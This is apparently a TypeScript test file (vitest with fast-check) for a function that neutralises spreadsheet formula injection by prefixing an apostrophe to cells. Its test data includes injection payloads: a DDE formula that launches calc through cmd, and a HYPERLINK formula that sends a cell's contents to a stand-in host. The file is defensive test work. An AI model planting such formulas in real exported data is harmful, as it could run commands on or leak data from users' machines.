import fc from 'fast-check'
import { expect, test } from 'vitest'
import { neutral } from './neutral.ts'

test('what a spreadsheet would compute stands behind an apostrophe', () => {
  for (const text of [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    ' =1',
    '\u3000=1',
    '\u200b=1',
    '\ufeff=1',
    '\u202e=1',
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://elsewhere.example?"&A1)',
    '-2+3+cmd|x!A0',
    '=',
  ]) {
    expect(neutral(text).startsWith("'")).toBe(true)
  }
})

test('also where a cell would begin for a spreadsheet that divides otherwise', () => {
  expect(neutral('a;=1+1')).toBe("a;'=1+1")
  expect(neutral('a\n=1')).toBe("a\n'=1")
  expect(neutral('a\r\n+1')).toBe("a\r\n'+1")
  expect(neutral('a\t@b')).toBe("a\t'@b")
  expect(neutral('a; -1')).toBe("a;' -1")
})

test('what nobody would compute stays as it is', () => {
  for (const text of [
    '',
    '湖南',
    'a=b',
    'a@b.cn',
    '2026-11-26',
    '1+1',
    "'=1",
    '12,-3',
    '费用－12元',
    'a;b',
  ]) {
    expect(neutral(text)).toBe(text)
  }
})

test('whatever the text, nothing begins with a sign of a formula, and nothing is lost', () => {
  const piece = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '＝',
    '－',
    '\t',
    '\r',
    '\n',
    ';',
    ' ',
    '\u200b',
    'a',
    '"',
    ',',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const text = pieces.join('')
      const told = neutral(text)
      expect(told.replaceAll("'", '')).toBe(text)
      for (const cell of told.split(/[\t\r\n;]/)) expect(cell).not.toMatch(/^[\s\u200b]*[=+\-@＝＋－＠]/)
    }),
  )
})
